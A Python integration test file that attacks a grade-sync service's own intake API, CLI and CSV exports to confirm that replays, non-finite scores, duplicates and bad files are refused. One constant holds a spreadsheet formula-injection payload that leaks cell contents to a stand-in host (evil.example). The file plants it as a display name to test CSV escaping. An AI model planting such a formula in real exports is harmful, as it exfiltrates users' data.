"""Attacks on the grade intake and on the CSVs the product writes, through the local stack: its API, the CLI
and the grade worker. Each test is named after the attack; each checks the answer and that nothing changed.
"""

import csv
import io
import json
import math
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import boto3
import pytest
import requests

from rostersync.csv_output import FORMULA_STARTS
from rostersync.models import GradeAssignment, GradeBatchRecord, GradeEntry, GradeMessage
from rostersync.store.grades import GradeQueue, GradeStore
from tests.integration.conftest import Stack

pytestmark = pytest.mark.integration

HYPERLINK_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


@dataclass(frozen=True)
class Target:
    tenant_id: str
    bearer: str
    course_id: int
    students: list[str]  # sis_user_ids of the course's active students, as synced
    unidentified: dict[str, Any]  # an active student of the course without a sis_user_id (Canvas's user)


def _token(stack: Stack, tenant_id: str) -> str:
    return stack.cli_ok("admin", "token", "--tenant", tenant_id)


@pytest.fixture(scope="module")
def target(stack: Stack) -> Target:
    """A tenant with one synced course that has identified students and a student without sis_user_id."""
    tenant_id = stack.connect_tenant()
    truth = stack.canvas("GET", "/_sim/ground_truth")
    users = {int(user["id"]): user for user in truth["users"]}
    available = {int(course["id"]) for course in truth["courses"] if course["workflow_state"] == "available"}
    students: dict[int, list[dict[str, Any]]] = {}
    for enrollment in truth["enrollments"]:
        if (
            int(enrollment["course_id"]) in available
            and enrollment["type"] == "StudentEnrollment"
            and enrollment["enrollment_state"] == "active"
        ):
            students.setdefault(int(enrollment["course_id"]), []).append(users[int(enrollment["user_id"])])
    course_id, enrolled = next(
        (course_id, enrolled)
        for course_id, enrolled in sorted(students.items())
        if sum(bool(user["sis_user_id"]) for user in enrolled) >= 4
        and any(not user["sis_user_id"] for user in enrolled)
    )
    stack.cli_ok("sync", "run", "--tenant", tenant_id, "--course", str(course_id), "--wait", "--force")
    return Target(
        tenant_id=tenant_id,
        bearer=_token(stack, tenant_id),
        course_id=course_id,
        students=sorted(user["sis_user_id"] for user in enrolled if user["sis_user_id"])[:4],
        unidentified=next(user for user in enrolled if not user["sis_user_id"]),
    )


def push(stack: Stack, bearer: str, body: dict[str, Any] | str) -> requests.Response:
    """POST /admin/grades; a str body is sent as it is (JSON that Python's json would not write)."""
    return requests.post(
        f"{stack.api_url}/admin/grades",
        data=body if isinstance(body, str) else json.dumps(body),
        headers={"Authorization": f"Bearer {bearer}", "Content-Type": "application/json"},
        timeout=30,
    )


def get(stack: Stack, bearer: str, path: str) -> requests.Response:
    return requests.get(f"{stack.api_url}{path}", headers={"Authorization": f"Bearer {bearer}"}, timeout=30)


def batch_body(
    target: Target, scores: list[float], external_id: str = "attacks", **extra: Any
) -> dict[str, Any]:
    return {
        "course_id": target.course_id,
        "assignment": {"external_id": external_id, "name": f"Quiz {external_id}", "points_possible": 100},
        "grades": [{"student": s, "score": score} for s, score in zip(target.students, scores, strict=False)],
        **extra,
    }


def grade_items(stack: Stack, tenant_id: str, batch_id: str = "") -> list[dict[str, Any]]:
    """The stored rows of the tenant's grade batches (or of one batch): batch rows and grade rows, sorted."""
    client = stack.aws("dynamodb")
    items: list[dict[str, Any]] = []
    kwargs: dict[str, Any] = {
        "TableName": stack.outputs["RosterTableName"],
        "FilterExpression": "begins_with(pk, :prefix)",
        "ExpressionAttributeValues": {":prefix": {"S": f"T#{tenant_id}#GRADES#{batch_id}"}},
    }
    while True:
        page = client.scan(**kwargs)
        items.extend(page["Items"])
        if "LastEvaluatedKey" not in page:
            return sorted(items, key=lambda item: (item["pk"]["S"], item["sk"]["S"]))
        kwargs["ExclusiveStartKey"] = page["LastEvaluatedKey"]


def grade_keys(stack: Stack, tenant_id: str) -> set[tuple[str, str]]:
    """Which grade-batch rows the tenant has (the worker may be updating earlier batches' rows meanwhile)."""
    return {(item["pk"]["S"], item["sk"]["S"]) for item in grade_items(stack, tenant_id)}


def processed(stack: Stack, bearer: str, batch_id: str) -> dict[str, Any]:
    """The batch's status once the grade worker has left no grade pending."""
    deadline = time.monotonic() + 60
    while True:
        status: dict[str, Any] = get(stack, bearer, f"/admin/grades/{batch_id}").json()
        if status["counts"]["pending"] == 0 or time.monotonic() > deadline:
            return status
        time.sleep(0.5)


@pytest.fixture(scope="module")
def sent_batch(stack: Stack, target: Target) -> tuple[str, dict[str, Any]]:
    """A batch pushed with an idempotency key and delivered to Canvas: the victim of the replays."""
    body = batch_body(target, [71, 72, 73], idempotency_key=f"key-{uuid.uuid4().hex}")
    pushed = push(stack, target.bearer, body)
    assert pushed.status_code == 202, pushed.text
    batch_id = pushed.json()["batch_id"]
    assert processed(stack, target.bearer, batch_id)["counts"]["sent"] == 3
    return batch_id, body


def assert_still_delivered(stack: Stack, target: Target, batch_id: str) -> None:
    status = get(stack, target.bearer, f"/admin/grades/{batch_id}").json()
    assert status["counts"] == {"pending": 0, "sent": 3, "unchanged": 0, "failed": 0}, status
    verified = get(stack, target.bearer, f"/admin/grades/{batch_id}/verify").json()
    assert verified["counts"]["matches"] == 3 and verified["all_match"], verified


# -- batch id replay ----------------------------------------------------------------------------------
def test_batch_id_replay_with_the_same_grades_answers_the_first_batch_and_changes_nothing(
    stack: Stack, target: Target, sent_batch: tuple[str, dict[str, Any]]
) -> None:
    batch_id, body = sent_batch
    before = grade_items(stack, target.tenant_id, batch_id)
    again = push(stack, target.bearer, body)
    assert again.status_code == 202 and again.json() == {"batch_id": batch_id}, again.text
    assert grade_items(stack, target.tenant_id, batch_id) == before
    assert_still_delivered(stack, target, batch_id)


def test_batch_id_replay_with_other_grades_is_409_and_changes_nothing(
    stack: Stack, target: Target, sent_batch: tuple[str, dict[str, Any]]
) -> None:
    batch_id, body = sent_batch
    before = grade_items(stack, target.tenant_id, batch_id)
    other = {**body, "grades": [{**grade, "score": 0} for grade in body["grades"]]}
    refused = push(stack, target.bearer, other)
    assert refused.status_code == 409 and "idempotency_key" in refused.json()["message"], refused.text
    assert grade_items(stack, target.tenant_id, batch_id) == before
    assert_still_delivered(stack, target, batch_id)


def test_batch_id_replay_as_a_client_chosen_batch_id_is_refused_and_changes_nothing(
    stack: Stack, target: Target, sent_batch: tuple[str, dict[str, Any]]
) -> None:
    """The old attack: the client named the batch id, and a second push over it reset its grades."""
    batch_id, _ = sent_batch
    before = grade_items(stack, target.tenant_id, batch_id)
    refused = push(stack, target.bearer, batch_body(target, [1, 2, 3], batch_id=batch_id))
    assert refused.status_code == 400 and "batch_id" in refused.json()["message"], refused.text
    assert grade_items(stack, target.tenant_id, batch_id) == before
    assert_still_delivered(stack, target, batch_id)


def test_batch_id_replay_of_another_tenants_key_makes_a_batch_of_ones_own(
    stack: Stack, target: Target, sent_batch: tuple[str, dict[str, Any]]
) -> None:
    batch_id, body = sent_batch
    other_bearer = _token(stack, stack.add_tenant(name="Replaying University"))
    own = push(stack, other_bearer, body)
    assert own.status_code == 202 and own.json()["batch_id"] != batch_id, own.text
    assert get(stack, other_bearer, f"/admin/grades/{batch_id}").status_code == 404
    keyless = [
        push(stack, target.bearer, batch_body(target, [5], "keyless")).json()["batch_id"] for _ in range(2)
    ]
    assert len(set(keyless)) == 2 and batch_id not in keyless


# -- non-finite numbers and duplicates ------------------------------------------------------------------
NON_FINITE_BODIES = {
    "nan_score": '"score": NaN',
    "infinity_score": '"score": Infinity',
    "minus_infinity_score": '"score": -Infinity',
    "overflowing_1e999_score": '"score": 1e999',
    "nan_text_score": '"score": "NaN"',
    "infinity_text_score": '"score": "Infinity"',
}


@pytest.mark.parametrize("score", NON_FINITE_BODIES.values(), ids=NON_FINITE_BODIES.keys())
def test_non_finite_score_in_json_is_400_and_nothing_is_stored(
    stack: Stack, target: Target, score: str
) -> None:
    before = grade_keys(stack, target.tenant_id)
    body = (
        f'{{"course_id": {target.course_id}, "assignment": {{"external_id": "nan", "name": "NaN quiz"}}, '
        f'"grades": [{{"student": "{target.students[0]}", {score}}}]}}'
    )
    refused = push(stack, target.bearer, body)
    assert refused.status_code == 400, refused.text
    assert refused.json()["message"] == "invalid request: grades.0.score: Input should be a finite number"
    assert grade_keys(stack, target.tenant_id) == before


@pytest.mark.parametrize("points", ["NaN", "Infinity", "1e999"])
def test_non_finite_points_possible_in_json_is_400_and_nothing_is_stored(
    stack: Stack, target: Target, points: str
) -> None:
    before = grade_keys(stack, target.tenant_id)
    body = json.dumps(batch_body(target, [50])).replace(
        '"points_possible": 100', f'"points_possible": {points}'
    )
    refused = push(stack, target.bearer, body)
    assert refused.status_code == 400, refused.text
    assert "assignment.points_possible: Input should be a finite number" in refused.json()["message"]
    assert grade_keys(stack, target.tenant_id) == before


@pytest.mark.parametrize("twin", ["same", "padded", "tab_padded"])
def test_duplicate_students_in_one_batch_is_400_and_nothing_is_stored(
    stack: Stack, target: Target, twin: str
) -> None:
    student = target.students[0]
    other = {"same": student, "padded": f"  {student} ", "tab_padded": f"\t{student}"}[twin]
    body = batch_body(target, [10])
    body["grades"].append({"student": other, "score": 20})
    before = grade_keys(stack, target.tenant_id)
    refused = push(stack, target.bearer, body)
    assert refused.status_code == 400, refused.text
    assert refused.json()["message"] == (
        f"invalid request: grades: Value error, students graded twice in one batch: {student.lower()!r}"
    )
    assert grade_keys(stack, target.tenant_id) == before


@pytest.mark.parametrize("course_id", [10**40, "\u0661\u0662", -1])
def test_a_course_id_that_is_no_canvas_id_is_400_and_nothing_is_stored(
    stack: Stack, target: Target, course_id: object
) -> None:
    before = grade_keys(stack, target.tenant_id)
    refused = push(stack, target.bearer, {**batch_body(target, [10]), "course_id": course_id})
    assert refused.status_code == 400 and "course_id" in refused.json()["message"]
    assert grade_keys(stack, target.tenant_id) == before


# -- a grade stored by older code that took a NaN score (stored as null) -----------------------------------
@pytest.fixture(scope="module")
def store(stack: Stack) -> GradeStore:
    resource = boto3.resource(
        "dynamodb",
        endpoint_url=stack.aws_endpoint_url,
        region_name="us-east-1",
        aws_access_key_id="local",
        aws_secret_access_key="local",
    )
    return GradeStore(stack.outputs["RosterTableName"], resource)


def test_nan_score_stored_by_older_code_reads_as_a_failed_grade_everywhere(
    stack: Stack, target: Target, store: GradeStore
) -> None:
    batch_id = f"legacy-{uuid.uuid4().hex[:8]}"
    nan_entry = GradeEntry.model_construct(  # what the old model let through, and stored as null
        student=target.students[0], score=math.nan, grade=None, excused=False, comment=None
    )
    entries = [
        nan_entry,
        GradeEntry(student=target.students[1], score=64),
        GradeEntry(student=target.students[2], score=65),
    ]
    record = GradeBatchRecord(
        tenant_id=target.tenant_id,
        batch_id=batch_id,
        course_id=target.course_id,
        assignment=GradeAssignment(external_id="legacy", name="Legacy quiz", points_possible=100),
        size=len(entries),
    )
    store.put_batch(record, entries)
    stored = [
        item["entry"]["S"] for item in grade_items(stack, target.tenant_id, batch_id) if "entry" in item
    ]
    assert f'{{"student":"{target.students[0]}","score":null,"excused":false}}' in stored
    GradeQueue(stack.outputs["GradesQueueUrl"], stack.aws("sqs")).send(
        GradeMessage(tenant_id=target.tenant_id, batch_id=batch_id)
    )

    status = processed(stack, target.bearer, batch_id)  # the worker sent the others
    assert status["counts"] == {"pending": 0, "sent": 2, "unchanged": 0, "failed": 1}, status
    (invalid,) = [grade for grade in status["grades"] if grade["state"] == "failed"]
    assert (invalid["student"], invalid["reason_code"]) == (target.students[0], "invalid_grade")
    assert "push the grade again" in invalid["reason"]

    verified = get(stack, target.bearer, f"/admin/grades/{batch_id}/verify")
    assert verified.status_code == 200, verified.text
    assert verified.json()["counts"] == {"matches": 2, "differs": 0, "missing": 0, "not_sent": 1}
    cli_status = json.loads(stack.cli_ok("grades", "status", batch_id, "--tenant", target.tenant_id))
    assert cli_status["counts"]["failed"] == 1
    # Not all of the batch is in Canvas: verify prints its report and exits 1 saying why.
    cli_verify = stack.cli("grades", "verify", batch_id, "--tenant", target.tenant_id)
    assert cli_verify.returncode == 1 and "1 were never sent" in cli_verify.stderr
    assert json.loads(cli_verify.stdout)["counts"]["not_sent"] == 1
    # It cannot be sent (it has no grade to send): retry queues nothing, says so and exits 1.
    retried = stack.cli("grades", "retry", batch_id, "--tenant", target.tenant_id)
    assert retried.returncode == 1 and "1 invalid_grade" in retried.stderr
    assert json.loads(retried.stdout) == {
        "batch_id": batch_id,
        "requeued": 0,
        "left_failed": {"invalid_grade": 1},
    }


# -- the sync-errors CSV with a hostile display name from Canvas ----------------------------------------
@pytest.fixture
def hostile_name(stack: Stack, target: Target) -> Iterator[str]:
    user = target.unidentified
    stack.canvas(
        "POST", "/_sim/changes/rename_user", json={"user_id": int(user["id"]), "first_name": HYPERLINK_NAME}
    )
    try:
        yield f"{HYPERLINK_NAME} {user['last_name']}"
    finally:
        stack.canvas(
            "POST",
            "/_sim/changes/rename_user",
            json={
                "user_id": int(user["id"]),
                "first_name": user["first_name"],
                "last_name": user["last_name"],
            },
        )


def test_formula_display_name_from_canvas_reaches_every_sync_errors_csv_as_text(
    stack: Stack, target: Target, hostile_name: str
) -> None:
    stack.cli_ok(
        "sync", "run", "--tenant", target.tenant_id, "--course", str(target.course_id), "--wait", "--force"
    )
    from_api = get(stack, target.bearer, "/admin/errors?format=csv")
    assert from_api.status_code == 200
    from_cli = stack.cli_ok("sync", "errors", "--tenant", target.tenant_id, "--format", "csv")
    for written in (from_api.text, from_cli):
        rows = list(csv.DictReader(io.StringIO(written, newline="")))
        (row,) = [row for row in rows if row["user_id"] == str(target.unidentified["id"])]
        assert row["message"].startswith(
            f"user {target.unidentified['id']} ({hostile_name!r}) has no sis_user_id: "
        )
        for cell in (cell for row in csv.reader(io.StringIO(written, newline="")) for cell in row):
            assert cell[:1] not in FORMULA_STARTS, cell


# -- files the CLI cannot read, with a stack running ----------------------------------------------------
@pytest.mark.parametrize("encoding", ["utf-16", "latin-1"])
def test_non_utf8_course_list_is_one_line_and_exit_1(
    stack: Stack, target: Target, tmp_path: Path, encoding: str
) -> None:
    path = tmp_path / "courses.csv"
    path.write_bytes(f"course_id\n{target.course_id}\nsis_course_id:Caf\u00e9\n".encode(encoding))
    completed = stack.cli("courses", "import", "--tenant", target.tenant_id, "--mode", "add", str(path))
    assert completed.returncode == 1
    assert completed.stderr.startswith(f"rostersync: error: {path} is not UTF-8 text (")
    assert completed.stderr.count("\n") == 1 and "Traceback" not in completed.stderr
